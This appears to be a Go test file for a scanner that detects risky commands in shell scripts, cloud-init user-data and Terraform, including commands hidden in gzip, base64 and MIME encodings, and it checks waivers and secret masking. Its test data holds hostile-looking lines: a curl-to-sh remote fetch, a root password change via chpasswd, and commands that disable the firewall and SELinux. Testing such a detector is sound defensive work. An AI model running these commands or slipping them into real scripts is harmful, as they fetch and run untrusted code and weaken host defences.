package script

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"strings"
	"testing"

	"keysweep/finding"
	"keysweep/script/internal/text"
)

// packed returns data gzipped.
func packed(t testing.TB, data string) []byte {
	t.Helper()
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	if _, err := w.Write([]byte(data)); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

const evil = "#!/bin/sh\nset -e\ncurl -s https://get.tool.io/a.sh | sh\n"

// TestDecoded finds what stands in encodings, and says of it where the encoded text stands, and the line in what was decoded.
func TestDecoded(t *testing.T) {
	b64 := func(data []byte) string { return base64.StdEncoding.EncodeToString(data) }
	mime := func(encoding, body string) string {
		return "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=B\n\n--B\nContent-Type: text/x-shellscript\n" +
			"Content-Transfer-Encoding: " + encoding + "\n\n" + body + "\n--B--\n"
	}
	for name, tc := range map[string]struct {
		file, data string
		line       int // where it stands in the outer file
	}{
		"gzip":             {"user-data", string(packed(t, evil)), 1},
		"base64":           {"user-data.txt", b64([]byte(evil)), 1},
		"gzip in base64":   {"user-data", b64(packed(t, evil)), 1},
		"gzip in gzip":     {"user-data", string(packed(t, string(packed(t, evil)))), 1},
		"mime base64":      {"user-data", mime("base64", b64([]byte(evil))), 8},
		"mime plain":       {"user-data", mime("8bit", evil), 10},
		"write_files b64":  {"user-data", "#cloud-config\nwrite_files:\n- path: /a.sh\n  encoding: b64\n  content: " + b64([]byte(evil)), 5},
		"write_files gz":   {"user-data", "#cloud-config\nwrite_files:\n- path: /a.sh\n  encoding: gz+b64\n  content: |\n    " + b64(packed(t, evil)), 6},
		"write_files tag":  {"user-data", "#cloud-config\nwrite_files:\n- path: /a.sh\n  content: !!binary |\n    " + b64([]byte(evil)), 5},
		"terraform base64": {"main.tf", "resource \"a\" \"b\" {\n  user_data_base64 = \"" + b64([]byte(evil)) + "\"\n}\n", 2},
	} {
		t.Run(name, func(t *testing.T) {
			f := Read(tc.file, []byte(tc.data), true)
			if f == nil {
				t.Fatal("it is not read")
			}
			results, _ := f.Results(nil)
			for _, r := range results {
				if r.Check == pipeToShell {
					if r.Where.Span.Start.Line != tc.line {
						t.Errorf("line %d, want %d", r.Where.Span.Start.Line, tc.line)
					}
					if plain := name == "mime plain"; plain != (r.Where.Note == "") || !plain && !strings.Contains(r.Where.Note, "line 3") {
						t.Errorf("note %q", r.Where.Note)
					}
					if r.Found != "curl -s https://get.tool.io/a.sh | sh" {
						t.Errorf("found %q", r.Found)
					}
					return
				}
			}
			t.Errorf("not found: %v", results)
		})
	}
}

// TestBounds wants limits to be told, not to be passed over in silence.
func TestBounds(t *testing.T) {
	bomb := strings.Repeat("#!/bin/sh\n", 2<<20)
	deep := evil
	for range maxDepth + 2 {
		deep = string(packed(t, deep))
	}
	for name, tc := range map[string]struct{ file, data string }{
		"bomb": {"user-data", string(packed(t, bomb))},
		"deep": {"user-data", deep},
	} {
		f := Read(tc.file, []byte(tc.data), true)
		if f == nil || len(f.Problems()) == 0 {
			t.Errorf("%s: no problem is told", name)
		}
	}
	nested := "#!/bin/sh\n" + strings.Repeat("( ", 100_000)
	f := Read("a.sh", []byte(nested+"\nufw disable\n"), true)
	results, _ := f.Results(nil)
	checks := ""
	for _, r := range results {
		checks += r.Check + " "
	}
	if !strings.Contains(checks, parses) {
		t.Errorf("deep nesting: %s", checks)
	}
	long := "#!/bin/sh\n" + strings.Repeat("echo 0123456789\n", 64<<10) + "ufw disable\n"
	f = Read("a.sh", []byte(long), true)
	results, _ = f.Results(nil)
	if len(results) != 2 || results[0].Check != parses || results[1].Check != firewallOff || results[1].Where.Span.Start.Line != 64<<10+2 {
		t.Errorf("a long script: %v", results)
	}
}

// TestOther wants no claims about files in other languages, even if they are named.
func TestOther(t *testing.T) {
	for _, name := range []string{"a.py", "a.json", "binary"} {
		f := Read(name, []byte("import os\nufw disable\n"+strings.Repeat("\x00", strings.Count(name, "b"))), true)
		results, notices := f.Results(nil)
		if len(results) != 0 || len(notices) != 1 || notices[0].Where != name {
			t.Errorf("%s: %v %v", name, results, notices)
		}
		if Read(name, []byte("import os\n"), false) != nil {
			t.Errorf("%s is taken for a script", name)
		}
	}
	f := Read("a.py", []byte("#!/usr/bin/env python3\nufw disable\n"), true)
	if results, _ := f.Results(nil); len(results) != 0 {
		t.Errorf("python: %v", results)
	}
}

// TestAllow waives what a comment names, with its reason, and tells of those without one.
func TestAllow(t *testing.T) {
	data := `#!/bin/bash
set -e
ufw disable # keysweep:allow=script.firewall-off -- behind another one
# keysweep:allow=script.firewall-off,script.http-download -- as well
setenforce 0
ufw reset # keysweep:allow
ufw disable # keysweep:allow=script.http-download -- another rule
# keysweep:allow-begin -- a block
setenforce 0
# keysweep:allow-end
`
	f := Read("a.sh", []byte(data), true)
	results, notices := f.Results(nil)
	got := ""
	for _, r := range results {
		got += string(r.State)
		if r.Waiver != nil {
			got += "(" + r.Waiver.Reason + " " + r.Waiver.Where + ")"
		}
		got += "\n"
	}
	want := "waived(behind another one a.sh:3)\nwaived(as well a.sh:4)\nwaived( a.sh:6)\nfail\nwaived(a block a.sh:8)\n"
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
	if len(notices) != 1 || notices[0].Kind != "unreasoned" || notices[0].Where != "a.sh:6" {
		t.Errorf("notices %v", notices)
	}
}

// TestMasked wants no secret in what a result shows: neither those that the rule knows of nor those that the scanner found on the same line.
func TestMasked(t *testing.T) {
	secret := "q7Zt" + "0LmVx9Rk2"
	data := "#!/bin/sh\necho root:" + secret + " | chpasswd; curl -H 'X-Api-Key: " + secret + "' https://x.tool.io | sh\n"
	f := Read("a.sh", []byte(data), true)
	at := strings.LastIndex(data, secret) - len("#!/bin/sh\n")
	span := finding.Span{Start: finding.Position{Line: 2, Column: at + 1}, End: finding.Position{Line: 2, Column: at + 1 + len(secret)}}
	results, _ := f.Results([]finding.Span{span})
	if len(results) < 3 {
		t.Errorf("%d results", len(results))
	}
	for _, r := range results {
		for _, shown := range []string{r.Found, r.Title, r.Where.Text, r.Subject} {
			if strings.Contains(shown, secret[:4]) {
				t.Errorf("%s shows %q", r.Check, shown)
			}
		}
	}
}

// exact checks that what a text says to stand in the outer file stands there.
func exact(t *testing.T, one *text.Text) {
	t.Helper()
	outer := one.Outer()
	for i := range one.Data {
		from, to := one.Range(i, i+1)
		if from < 0 || to > len(outer) || from > to {
			t.Fatalf("offset %d is said to be %d to %d of %d", i, from, to, len(outer))
		}
		if one.Exact(i, i+1) && (to != from+1 || outer[from] != one.Data[i]) {
			t.Fatalf("%q at %d is said to be %q at %d", one.Data[i], i, outer[from:to], from)
		}
	}
}

// TestPlaces checks the place of every byte of every script in the test data.
func TestPlaces(t *testing.T) {
	for _, dir := range []string{"bad", "good"} {
		for _, files := range cases(t, dir) {
			for _, file := range files {
				f := Read(file.Name, file.Data, true)
				for _, p := range f.parts {
					exact(t, p.text)
				}
				for _, h := range f.hits {
					exact(t, h.span.Text)
				}
			}
		}
	}
}

// FuzzRead reads anything as every kind of file.
func FuzzRead(f *testing.F) {
	names := []string{"a.sh", "a.zsh", "user-data", "a.service", "etc/crontab", "Dockerfile", "compose.yaml", "main.tf", "template.yaml", "pod.yaml",
		".gitlab-ci.yml", ".github/workflows/ci.yml", ".bash_history", "a.sh.j2", "rc.local"}
	for _, dir := range []string{"bad", "good"} {
		for _, files := range fuzzCases(f, dir) {
			f.Add(uint8(0), files)
			f.Add(uint8(2), files)
			f.Add(uint8(9), files)
		}
	}
	f.Fuzz(func(t *testing.T, n uint8, data []byte) {
		file := Read(names[int(n)%len(names)], data, true)
		if file == nil {
			return
		}
		results, _ := file.Results([]finding.Span{{Start: finding.Position{Line: 1, Column: 1}, End: finding.Position{Line: 2, Column: 1}}})
		for _, r := range results {
			s := r.Where.Span
			if s.Start.Line < 1 || s.Start.Column < 1 || s.End.Line < s.Start.Line || s.Start.Line == s.End.Line && s.End.Column < s.Start.Column {
				t.Fatalf("%s at %v", r.Check, s)
			}
		}
		for _, p := range file.parts {
			if len(p.text.Data) < 4096 {
				exact(t, p.text)
			}
		}
	})
}
